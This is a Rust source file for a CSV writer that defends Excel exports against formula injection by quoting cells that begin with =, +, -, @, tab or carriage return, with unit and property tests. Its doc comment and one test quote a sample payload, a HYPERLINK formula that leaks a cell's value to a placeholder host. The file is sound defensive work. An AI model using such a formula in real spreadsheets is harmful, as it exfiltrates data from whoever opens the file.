//! The one CSV writer every CSV carecircle writes goes through: files people open in Excel.
//!
//! A byte-order mark first, so Excel reads the Chinese as UTF-8; and every cell that Excel would take
//! for a formula is neutralised as OWASP advises: a cell starting with `=`, `+`, `-`, `@`, a tab or a
//! carriage return gets a leading `'`, which Excel shows as text and does not evaluate. Names and ids come
//! from the data, and a facility named `=HYPERLINK("http://x.example/?leak="&A1,"click")` must not run
//! in an auditor's spreadsheet. A cell that is a plain decimal number (`-3.5`, `+12`) is left as it is: a
//! number calls no function, and auditors sum the columns.
//!
//! ```
//! use carecircle_core::report::excel_csv::ExcelCsv;
//! let mut w = ExcelCsv::new();
//! w.write_record(["name", "measured"]).unwrap();
//! w.write_record(["=1+2 新港社区", "-3.5"]).unwrap();
//! let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
//! assert_eq!(text, "\u{feff}name,measured\n'=1+2 新港社区,-3.5\n");
//! ```

/// A CSV being written in memory for Excel.
pub struct ExcelCsv {
    writer: csv::Writer<Vec<u8>>,
}

impl Default for ExcelCsv {
    fn default() -> Self {
        ExcelCsv::new()
    }
}

impl ExcelCsv {
    pub fn new() -> ExcelCsv {
        ExcelCsv {
            writer: csv::Writer::from_writer("\u{feff}".as_bytes().to_vec()),
        }
    }

    /// Writes one row, each cell neutralised ([`cell`]).
    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.writer
            .write_record(record.into_iter().map(|c| cell(c.as_ref()).into_owned()))
    }

    /// The file's bytes.
    pub fn into_inner(self) -> csv::Result<Vec<u8>> {
        self.writer.into_inner().map_err(|e| csv::Error::from(e.into_error()))
    }
}

/// A cell as it is safe to hand to a spreadsheet: with a leading `'` when Excel would evaluate it.
pub fn cell(text: &str) -> std::borrow::Cow<'_, str> {
    let risky = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(text) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// A decimal number and nothing else: an optional sign, digits, an optional fraction.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, ""));
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
        && !(digits.ends_with('.'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_text_and_numbers_stay_numbers() {
        for (given, written) in [
            (
                "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"click\") 新港社区",
                "'=HYPERLINK",
            ),
            ("+SUM(A1:A9)", "'+SUM"),
            ("-2+3", "'-2+3"),
            ("@cmd", "'@cmd"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-", "'-"),
            ("-1e3", "'-1e3"),
            ("-.5", "'-.5"),
        ] {
            assert!(cell(given).starts_with(written), "{given:?} → {:?}", cell(given));
        }
        for plain in ["-3.5", "+12", "0", "350105001004", "新港社区", "R057", "", "a=b"] {
            assert_eq!(cell(plain), plain);
        }
    }

    use proptest::prelude::*;

    proptest! {
        /// Whatever a cell holds, what is written never starts a formula unless it is a plain number, and
        /// it reads back as the text given with at most a leading quote.
        #[test]
        fn no_cell_starts_a_formula(text in "[=+@\t\r-]?[ -~一-龥]{0,12}") {
            let written = cell(&text);
            let risky = written.starts_with(['=', '+', '-', '@', '\t', '\r']);
            prop_assert!(!risky || is_plain_number(&written), "{written:?}");
            prop_assert!(written == text || written.strip_prefix('\'') == Some(text.as_str()));
        }
    }
}
